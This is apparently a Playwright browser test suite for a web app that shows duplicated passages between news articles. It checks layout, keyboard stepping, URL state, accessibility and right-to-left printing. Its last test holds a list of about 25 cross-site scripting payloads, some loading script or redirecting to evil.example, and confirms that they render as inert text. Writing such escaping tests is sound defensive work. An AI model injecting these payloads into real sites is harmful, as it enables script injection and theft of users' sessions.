"""The pages in a real browser: keys, partners, state in the address, and hostile words that stay words.

Screenshots are saved in ``.var/screenshots``, for people to look at.
"""

import re

import pytest
from app_server import SEED, serve, store_in

from dedup.cluster.union import cluster_id
from tests.browser import SHOTS, SIZES

VIEWS = {
    "front": "/",
    "report": "/articles/seed",
    "report-other-items": "/articles/hw-1001b",
    "compare": "/compare?a=hw-1001&b=hw-1001b",
    "compare-form": "/compare",
    "clusters": "/clusters",
    "cluster": f"/clusters/{cluster_id('hw-1001')}",
    "articles": "/articles",
    "docs": "/docs",
    "missing": "/articles/nothing",
}


LOOKS = [(name, "light") for name in VIEWS] + [(name, "dark") for name in ("front", "report", "compare")]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("name,scheme", LOOKS)
def test_every_page_fits_its_window_and_loads_nothing_from_elsewhere(tab, name, size, scheme):
    one = tab(size=size, color_scheme=scheme)
    page = one.open(VIEWS[name])
    page.screenshot(path=SHOTS / f"{name}-{size}-{scheme}.png", full_page=size == "desktop")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("h1, h2").count() > 0
    if name == "missing":
        one.wrong.clear()


def until(page, condition):
    """Wait until a condition holds; the pages forbid the ``eval`` that the browser's own waiting uses."""
    for _ in range(400):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(25)
    pytest.fail(f"never came true: {condition}")


def lit(page):
    return page.evaluate("[...document.querySelectorAll('.pane mark.lit')].map(e => e.dataset.p)")


def in_sight(page, anchor):
    return page.evaluate(
        """id => { const e = document.getElementById(id), r = e.getBoundingClientRect();
        const pane = e.closest('.pane').getBoundingClientRect();
        return r.top >= Math.max(0, pane.top) && r.bottom <= Math.min(innerHeight, pane.bottom); }""",
        anchor,
    )


def test_keys_step_through_the_passages_and_show_both_sides(tab):
    page = tab().open("/articles/seed")
    total = page.locator(".passages > li").count()
    page.keyboard.press("n")
    until(page, "location.hash === '#p1b'")
    assert page.locator(".place").inner_text() == f"Passage 1 of {total}"
    page.keyboard.press("n")
    until(page, "location.hash === '#p2b'")
    page.keyboard.press("p")
    page.keyboard.press("p")
    until(page, f"location.hash === '#p{total}b'")
    assert set(lit(page)) and all(f"p{total}" in names.split() for names in lit(page))
    assert page.evaluate("document.activeElement.id") == f"p{total}b"
    assert in_sight(page, f"p{total}b")
    page.screenshot(path=SHOTS / "report-step-desktop.png")


def across(page):
    """The first passage with a side in each column."""
    return page.evaluate(
        """[...document.querySelectorAll(".pane:first-child .ref[id$='a']")].map(e => e.dataset.p)
        .find(p => document.getElementById(p + 'b').closest('.pane') !== document.querySelector('.pane'))"""
    )


def test_hovering_lights_the_partner_and_draws_the_line(tab):
    page = tab().open("/articles/seed")
    name = across(page)
    page.locator(f".pane:first-child mark[data-p~={name}]").first.hover()
    partner = page.locator(f".pane + .pane mark[data-p~={name}].lit")
    assert partner.count() >= 1
    page.locator(f"#{name}a").click()
    until(page, f"location.hash === '#{name}b'")
    assert in_sight(page, f"{name}b") and in_sight(page, f"{name}a")
    assert page.locator(".connector path").count() >= 1
    page.screenshot(path=SHOTS / "report-partner-desktop.png")


def test_the_view_is_in_the_address_and_opens_the_same_elsewhere(tab):
    page = tab().open("/articles/seed")
    page.get_by_label("New", exact=True).check(force=True)
    page.get_by_label("One column").check(force=True)
    page.keyboard.press("n")
    until(page, "location.hash === '#p1b'")
    address = page.url
    assert "show=new" in address and "view=one" in address
    again = tab(size="desktop").page
    again.goto(address)
    until(again, "document.querySelectorAll('.pane mark.lit').length > 0")
    assert again.get_by_label("New", exact=True).is_checked()
    assert again.locator(".place").inner_text().startswith("Passage 1 of")
    again.screenshot(path=SHOTS / "report-new-desktop.png")


def test_two_documents_scroll_together(tab):
    one = tab()
    page = one.open("/compare?a=hw-1001&b=hw-1001b")
    page.evaluate("document.querySelectorAll('.pane').forEach(p => { p.style.height = '160px'; })")
    left = page.locator(".pane").first
    left.hover()
    page.mouse.wheel(0, 120)
    until(page, "document.querySelectorAll('.pane')[1].scrollTop > 0")


def test_everything_is_reached_by_keyboard_and_named(tab):
    page = tab().open("/articles/seed")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    nameless = page.evaluate(
        """[...document.querySelectorAll('a, button, input:not([type=hidden]), svg[role=img]')]
        .filter(e => !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length))
        .map(e => e.outerHTML)"""
    )
    assert nameless == []
    labels = page.locator(".pane .ref").evaluate_all("all => all.map(e => e.getAttribute('aria-label'))")
    assert labels and all(
        re.match(r"Passage \d+, .+; go to where it is said (first|again)", x) for x in labels
    )


def test_without_javascript_the_report_is_complete(tab):
    one = tab(java_script_enabled=False)
    page = one.open("/articles/seed")
    assert page.locator(".steps").is_hidden()
    page.locator("#p1a").click()
    assert page.url.endswith("#p1b")
    page.get_by_label("New", exact=True).check(force=True)
    faded = page.locator(".pane mark").first.evaluate("e => getComputedStyle(e).color")
    plain = page.locator(".pane .plain").first.evaluate("e => getComputedStyle(e).color")
    assert faded != plain


def test_pasting_checking_and_keeping_by_hand(chromium, tmp_path, tab):
    with serve(store=store_in(tmp_path), warm=False) as server:
        one = tab(server=server, size="phone")
        page = one.open("/")
        page.get_by_label("The article, as it was").fill("🙂 " + SEED)
        page.screenshot(path=SHOTS / "paste-phone.png")
        page.get_by_role("button", name="Check", exact=True).click()
        page.wait_for_url("**/check")
        assert "Compared with 0 items" in page.locator("main").inner_text()
        page.screenshot(path=SHOTS / "checked-phone.png")
        page.get_by_role("button", name="Keep the report and get a link").click()
        page.wait_for_url("**/reports/*")
        assert page.locator(".passages > li").count() > 0


def test_right_to_left_and_print(chromium, tmp_path, tab):
    arabic = "قال خفر السواحل إن العبارة جنحت فجر الثلاثاء قرب ميناء لوسك وعلى متنها 212 راكبا."
    text = f"{arabic}\nThe ferry was later towed to the harbour.\n{arabic}\n"
    with serve(store=store_in(tmp_path), warm=False) as server:
        server.put(
            "/v1/articles/ar", json={"text": text, "title": "عبارة تجنح قرب ميناء لوسك", "source": "لوسك"}
        )
        one = tab(server=server)
        page = one.open("/articles/ar")
        first = page.locator(".para").first
        assert first.evaluate("e => getComputedStyle(e).direction") == "rtl"
        page.screenshot(path=SHOTS / "right-to-left-desktop.png", full_page=True)
        page.emulate_media(media="print")
        assert page.locator("header.site").is_hidden()
        page.screenshot(path=SHOTS / "print-desktop.png", full_page=True)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "'\"><script src=//evil.example/x.js></script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover=alert(1) '",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
]


def hostile(payload, number):
    sentence = (
        f"{payload} was seen by 40 witnesses in the harbour of Port Lusk on Tuesday morning, police said."
    )
    text = f"{sentence}\nNothing else was reported from the harbour.\n{sentence}"
    values = dict.fromkeys(("title", "source", "credit", "url"), payload)
    own_id = "".join(filter(str.isprintable, f"x{number} {payload}")).strip()
    return {"id": own_id, "text": text, "published": "2026-11-17T09:20:00Z", **values}


def test_hostile_markup_stays_words(tmp_path, tab):
    with serve(store=store_in(tmp_path), warm=False) as server:
        addresses = []
        for number, payload in enumerate(PAYLOADS):
            kept = server.post("/v1/articles", json=hostile(payload, number))
            assert kept.status_code == 201, kept.text
            addresses.append(kept.headers["location"].removeprefix("/v1"))
        one = tab(server=server)
        for path in ["/", "/articles", "/clusters", "/compare", *addresses]:
            page = one.open(path)
            page.wait_for_load_state()
            assert (
                page.locator("main script, main iframe, main img, main style, main meta, main base").count()
                == 0
            )
            assert page.url == one.base + path
        page = one.open(addresses[0])
        assert PAYLOADS[0] in page.locator(".para").first.inner_text()
